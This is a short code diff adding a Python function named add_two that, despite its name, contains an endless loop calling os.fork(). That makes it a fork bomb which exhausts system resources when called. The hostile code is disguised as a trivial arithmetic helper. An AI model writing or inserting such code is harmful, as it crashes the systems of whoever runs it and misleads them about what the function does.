@@ -1,0 +1,9 @@
+import os
+
+
+def add_two(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
